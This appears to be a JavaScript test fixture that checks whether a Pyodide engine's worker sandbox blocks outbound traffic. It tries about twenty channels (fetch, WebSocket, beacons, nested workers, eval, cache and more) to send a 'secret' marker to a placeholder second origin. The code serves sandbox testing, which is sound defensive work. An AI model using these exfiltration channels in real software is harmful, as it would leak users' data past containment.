// Appended to the engine's worker by the test: tries every way out that a worker has. Each attempt
// is reported to our own origin; what arrives at the other one is counted there.
{
  const other = "@OTHER@";
  // The engine lends Pyodide another fetch while it starts; hostile code would keep the browser's.
  const { fetch } = self;
  const report = (name, outcome) => fetch(`${location.origin}/report/js/${name}?${encodeURIComponent(String(outcome).slice(0, 80))}`);
  const blob = (script) => URL.createObjectURL(new Blob([script], { type: "text/javascript" }));
  const opened = (target) =>
    new Promise((resolve) => {
      target.onopen = target.onmessage = () => resolve("open");
      target.onerror = () => resolve("refused");
    });
  const ways = {
    fetch: () => fetch(`${other}/js-fetch?secret`),
    "fetch-opaque": () => fetch(`${other}/js-fetch-opaque?secret`, { mode: "no-cors", keepalive: true }),
    "fetch-post": () => fetch(`${other}/js-fetch-post`, { method: "POST", mode: "no-cors", body: "secret" }),
    "fetch-redirect": () => fetch(`${location.origin}/redirect?${other}/js-fetch-redirect`, { mode: "no-cors" }),
    xhr: () => {
      const request = new XMLHttpRequest();
      request.open("GET", `${other}/js-xhr?secret`, false);
      request.send();
      return request.status;
    },
    websocket: () => opened(new WebSocket(`${other.replace("http", "ws")}/js-websocket?secret`)),
    eventsource: () => opened(new EventSource(`${other}/js-eventsource?secret`)),
    import: () => import(`${other}/js-import.js?secret`),
    importScripts: () => importScripts(`${other}/js-import-scripts.js?secret`),
    sendBeacon: () => navigator.sendBeacon(`${other}/js-beacon?secret`, "secret"),
    image: () => opened(Object.assign(new Image(), { src: `${other}/js-image?secret` })),
    webrtc: () => new RTCPeerConnection({ iceServers: [{ urls: "stun:@STUN@" }] }).createDataChannel("a"),
    webtransport: () => new WebTransport(`${other.replace("http:", "https:")}/js-webtransport`).ready,
    "font": () => new FontFace("a", `url(${other}/js-font?secret)`).load(),
    "nested-worker": () => opened(new Worker(`${other}/js-nested.js?secret`, { type: "module" })),
    "nested-blob": () =>
      opened(new Worker(blob(`fetch("${other}/js-nested-blob?secret").finally(() => postMessage(1))`))),
    "nested-data": () =>
      opened(new Worker(`data:text/javascript,fetch("${other}/js-nested-data").finally(() => postMessage(1))`)),
    "shared-worker": () => opened(new SharedWorker(`${other}/js-shared.js`).port),
    eval: () => (0, eval)(`fetch("${other}/js-eval?secret")`),
    cache: async () => (await caches.open("a")).add(new Request(`${other}/js-cache?secret`, { mode: "no-cors" })),
  };
  for (const [name, way] of Object.entries(ways)) {
    try {
      const late = new Promise((resolve) => setTimeout(() => resolve("no answer"), 1500));
      report(name, `done: ${await Promise.race([way(), late])}`);
    } catch (error) {
      report(name, error);
    }
  }
  report("all", "tried");
}
